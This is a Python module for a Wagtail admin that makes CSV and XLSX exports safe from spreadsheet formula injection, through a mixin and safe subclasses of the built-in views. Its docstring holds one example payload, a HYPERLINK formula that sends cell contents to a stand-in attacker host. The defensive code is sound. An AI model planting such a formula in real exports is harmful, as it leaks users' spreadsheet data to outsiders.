"""Spreadsheet exports (CSV and XLSX) that no spreadsheet runs as a formula.

Anything a visitor or an editor typed (a comment's name, a page title) can start like a formula:
``=HYPERLINK("http://evil.example/?"&B2,"Xem")`` in a CSV opened in Excel or LibreOffice runs, and can
send the neighbouring cells away. Every export in the admin goes through ``FormulaSafeExportMixin``:

- our viewsets derive from ``PortalSnippetViewSet``, ``PortalModelViewSet`` or ``PortalPageListingViewSet``
  (their listing exports safely);
- our own views mix ``FormulaSafeExportMixin`` in instead of Wagtail's ``SpreadsheetExportMixin``;
- Wagtail's own exporting listings (reports, redirects) are served by the subclasses below, at their own
  addresses (``sites/export_urls.py``, ahead of Wagtail's admin URLs).

tests/sites/test_exports.py walks every admin URL and fails on an export that is not formula-safe.
"""

from wagtail.admin.views.generic.models import IndexView
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.views.pages.listing import IndexView as PageIndexView
from wagtail.admin.views.reports.aging_pages import AgingPagesView
from wagtail.admin.views.reports.audit_logging import LogEntriesView
from wagtail.admin.views.reports.locked_pages import LockedPagesView
from wagtail.admin.views.reports.workflows import WorkflowTasksView, WorkflowView
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.admin.viewsets.pages import PageListingViewSet
from wagtail.contrib.redirects import views as redirect_views
from wagtail.snippets.views import snippets as snippet_views
from wagtail.snippets.views.snippets import SnippetViewSet

# What spreadsheets read as the start of a formula (the full-width forms too), and the control characters
# that some of them skip before looking.
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
CONTROL_STARTS = frozenset("\t\r\n")


def formula_safe(value):
    """``value`` unchanged unless it is text a spreadsheet would run; that text gets a leading apostrophe,
    which spreadsheets read as "this is text"."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in CONTROL_STARTS or value.lstrip()[:1] in FORMULA_STARTS:
        return "'" + value
    return value


class FormulaSafeExportMixin(SpreadsheetExportMixin):
    """Wagtail's export with every text cell made harmless: in CSV prefixed with an apostrophe when it
    starts like a formula, in XLSX always stored as text (never a formula cell); headings too."""

    def get_heading(self, queryset, field):
        return formula_safe(super().get_heading(queryset, field))

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return formula_safe(value) if export_format == self.FORMAT_CSV else value

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl reads "=..." as a formula; text it stays
            yield cell


def is_formula_safe(view_class):
    return issubclass(view_class, FormulaSafeExportMixin)


class FormulaSafeIndexView(FormulaSafeExportMixin, IndexView):
    pass


class FormulaSafeSnippetIndexView(FormulaSafeExportMixin, snippet_views.IndexView):
    pass


class FormulaSafePageIndexView(FormulaSafeExportMixin, PageIndexView):
    pass


class PortalModelViewSet(ModelViewSet):
    """The base of our ModelViewSets: the listing's exports are formula-safe."""

    index_view_class = FormulaSafeIndexView


class PortalSnippetViewSet(SnippetViewSet):
    """The base of our SnippetViewSets: the listing's exports are formula-safe."""

    index_view_class = FormulaSafeSnippetIndexView


class PortalPageListingViewSet(PageListingViewSet):
    """The base of our page listings: the listing's exports are formula-safe."""

    index_view_class = FormulaSafePageIndexView


# Wagtail's own exporting listings, served at their addresses by sites/export_urls.py.
class SafeLockedPagesView(FormulaSafeExportMixin, LockedPagesView):
    pass


class SafeWorkflowView(FormulaSafeExportMixin, WorkflowView):
    pass


class SafeWorkflowTasksView(FormulaSafeExportMixin, WorkflowTasksView):
    pass


class SafeLogEntriesView(FormulaSafeExportMixin, LogEntriesView):
    pass


class SafeAgingPagesView(FormulaSafeExportMixin, AgingPagesView):
    pass


class SafeRedirectIndexView(FormulaSafeExportMixin, redirect_views.IndexView):
    pass
